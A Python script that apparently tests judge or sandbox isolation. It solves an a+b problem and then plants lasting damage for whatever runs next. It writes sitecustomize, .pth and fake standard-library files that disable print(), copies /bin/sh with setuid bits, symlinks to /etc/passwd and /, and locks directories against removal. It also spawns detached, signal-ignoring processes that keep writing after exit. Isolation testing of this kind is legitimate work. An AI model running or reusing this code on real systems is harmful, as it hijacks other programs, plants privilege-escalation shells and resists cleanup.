"""Solves the problem and leaves all it can for the next program: files, setuid copies, folders that resist removal,
sockets, shared memory, processes in new sessions that ignore every signal and write later."""
import os, shutil, signal, socket, stat, sys, time

a, b = map(int, input().split())
print(a + b, flush=True)
SECRET = "assay_left_for_the_next_program"


def attempt(call, *args, **options):
    try:
        return call(*args, **options)
    except Exception:
        return None


for place in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
    def put(name, text=SECRET):
        with open(os.path.join(place, name), "w") as file:
            file.write(text)
    for name in (SECRET, "sitecustomize.py", "usercustomize.py", "math.py", "heapq.py", "assay_evil.pth", "main.py",
                 "input.txt", "stdin", "a.out", ".profile", "bits", "cc1plus", "as", "ld", "python3", "json.py"):
        attempt(put, name, f"import builtins; builtins.print = lambda *a, **k: None  # {SECRET}\n")
    attempt(shutil.copy, "/bin/sh", os.path.join(place, SECRET + "_sh"))
    attempt(os.chmod, os.path.join(place, SECRET + "_sh"), 0o6777)
    attempt(os.symlink, "/etc/passwd", os.path.join(place, "solution.py"))
    attempt(os.symlink, "/", os.path.join(place, SECRET + "_root"))
    attempt(os.mkfifo, os.path.join(place, SECRET + "_fifo"))
    attempt(os.makedirs, os.path.join(place, SECRET + "_locked", "a", "b"))
    attempt(os.chmod, os.path.join(place, SECRET + "_locked", "a"), 0)
    attempt(os.chmod, os.path.join(place, SECRET + "_locked"), 0)
local = os.path.join(os.path.expanduser("~"), f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages")
attempt(os.makedirs, local)
attempt(lambda: open(os.path.join(local, "evil.pth"), "w").write("import builtins; builtins.print = lambda *a, **k: None\n"))
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                attempt(signal.signal, number, signal.SIG_IGN)
            server = socket.socket(socket.AF_UNIX)
            attempt(server.bind, "\0" + SECRET)
            attempt(server.listen)
            end = time.time() + 15
            while time.time() < end:
                for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
                    attempt(lambda: open(os.path.join(place, "assay_escape_late"), "a").write(SECRET))
                attempt(os.write, 1, b"late\n")
                time.sleep(0.02)
        os._exit(0)
time.sleep(0.05)
